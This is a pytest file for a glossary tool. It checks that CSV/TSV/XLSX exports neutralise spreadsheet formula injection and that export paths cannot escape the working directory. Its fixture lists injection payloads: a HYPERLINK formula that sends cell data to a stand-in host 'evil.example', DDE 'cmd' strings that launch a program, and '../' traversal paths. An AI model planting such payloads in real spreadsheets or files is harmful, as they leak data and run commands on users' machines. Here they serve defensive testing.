"""Export safety: spreadsheet formula injection neutralised in CSV/TSV/XLSX exports (and reversibly, so a
re-import gives the original text back); export paths never escape the working directory (.., symlinks)
unless the user gave an absolute path."""

from __future__ import annotations

import csv
import os

import pytest
from click.testing import CliRunner

from glossary.cli import app
from glossary.data import EntryData, TermData
from glossary.store.service import GlossaryService

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_db(sqlite_url):
    svc = GlossaryService.open(sqlite_url, user="mallory")
    try:
        for i, p in enumerate(PAYLOADS):
            svc.create_entry(EntryData(
                terms=[TermData("zh", f"公式{chr(0x4E00 + i)}"), TermData("en", f"{p} {i}".strip())],
                status="approved", note=p, definition=p, subject=p[:50]))
    finally:
        svc.close()
    return sqlite_url.removeprefix("sqlite:///")


def export(db: str, fmt: str, out: str):
    return CliRunner().invoke(app, ["--db", db, "export", "--format", fmt, "-o", out])


@pytest.mark.parametrize("fmt,suffix", [("csv", ".csv"), ("tsv", ".tsv")])
def test_delimited_export_neutralises_formulas(hostile_db, tmp_path, fmt, suffix):
    out = tmp_path / f"g{suffix}"
    r = export(hostile_db, fmt, str(out))
    assert r.exit_code == 0, r.output
    with open(out, encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f, delimiter="," if fmt == "csv" else "\t") for c in row]
    risky = [c for c in cells if c.startswith(DANGEROUS)]
    assert not risky, f"{len(risky)} cells a spreadsheet would run as formulas, e.g. {risky[:3]}"


@pytest.mark.parametrize("fmt,suffix", [("csv", ".csv"), ("xlsx", ".xlsx")])
def test_neutralised_export_reimports_to_the_original_text(hostile_db, tmp_path, fmt, suffix):
    from glossary.exchange import load_entries

    out = tmp_path / f"g{suffix}"
    assert export(hostile_db, fmt, str(out)).exit_code == 0
    texts = {t.text for e in load_entries(out) for t in e.terms if t.lang == "en"}
    assert texts == {" ".join(f"{p} {i}".split()) for i, p in enumerate(PAYLOADS)}


def test_xlsx_export_has_no_formula_cells(hostile_db, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "g.xlsx"
    assert export(hostile_db, "xlsx", str(out)).exit_code == 0
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") and c.quotePrefix for c in cells)


@pytest.mark.parametrize("target", ["../evil.csv", "a/../../evil.csv", "exports/../../evil.csv"])
def test_relative_export_paths_cannot_leave_the_directory(hostile_db, tmp_path, monkeypatch, target):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    r = export(hostile_db, "csv", target)
    assert r.exit_code == 2 and "escapes" in r.output and r.output.strip().count("\n") == 0
    assert not list(tmp_path.rglob("evil.csv"))


def test_symlink_inside_the_directory_cannot_lead_outside(hostile_db, tmp_path, monkeypatch):
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    os.symlink(outside, work / "link")
    monkeypatch.chdir(work)
    r = export(hostile_db, "csv", "link/evil.csv")
    assert r.exit_code == 2 and "escapes" in r.output
    assert not (outside / "evil.csv").exists()


def test_absolute_and_default_paths_are_the_users_choice(hostile_db, tmp_path, monkeypatch):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    assert export(hostile_db, "jsonl", str(tmp_path / "elsewhere.jsonl")).exit_code == 0
    assert (tmp_path / "elsewhere.jsonl").exists()
    r = CliRunner().invoke(app, ["--db", hostile_db, "export", "--format", "tsv"])
    assert r.exit_code == 0
    assert [p.parent for p in work.rglob("*.tsv")] == [work / "exports"]
